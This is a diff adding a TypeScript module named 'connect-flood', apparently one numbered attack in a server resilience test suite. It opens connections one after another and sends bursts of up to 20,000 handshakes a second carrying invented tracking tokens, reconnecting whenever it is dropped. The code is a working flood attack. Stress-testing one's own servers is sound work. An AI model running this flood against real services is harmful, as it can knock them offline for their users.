@@ -1,0 +1,49 @@
+// One anonymous connection at a time sends handshakes with invented tracking tokens, and opens the next when it is closed.
+import { randomBytes } from 'node:crypto';
+import { setTimeout as pause } from 'node:timers/promises';
+import type { FrameClient } from '../../clients/swarm.ts';
+import type { Attack } from './attack.ts';
+import { connect, trackHandshake } from './connect.ts';
+
+/** Packets in one burst, and the pause between two bursts: 20,000 packets a second. */
+const BURST = 200;
+const GAP_MS = 10;
+/** Pause before the next connection, ms. */
+const AGAIN_MS = 20;
+
+export const connectFlood: Attack = {
+  name: 'connect-flood',
+  item: 'C13',
+  what: 'sends up to 20,000 handshakes a second with invented tracking tokens',
+  run: async (target, signal) => {
+    const figures = { connections: 0, 'refused connections': 0, packets: 0, answers: 0 };
+    while (!signal.aborted) {
+      try {
+        const client = await connect(target, (text) => {
+          if (text.startsWith('44')) figures.answers += 1;
+        });
+        figures.connections += 1;
+        figures.packets += await flood(client, signal);
+        client.close();
+      } catch {
+        // The server refuses or drops the connection: the attacker tries again.
+        figures['refused connections'] += 1;
+      }
+      await pause(AGAIN_MS);
+    }
+    return figures;
+  },
+};
+
+/** Sends until the connection is closed or the attack ends; the number of packets sent. */
+async function flood(client: FrameClient, signal: AbortSignal): Promise<number> {
+  let packets = 0;
+  while (client.isOpen() && !signal.aborted) {
+    for (let sent = 0; sent < BURST && client.isOpen(); sent += 1) {
+      client.send(trackHandshake(randomBytes(11).toString('hex')));
+      packets += 1;
+    }
+    await pause(GAP_MS);
+  }
+  return packets;
+}
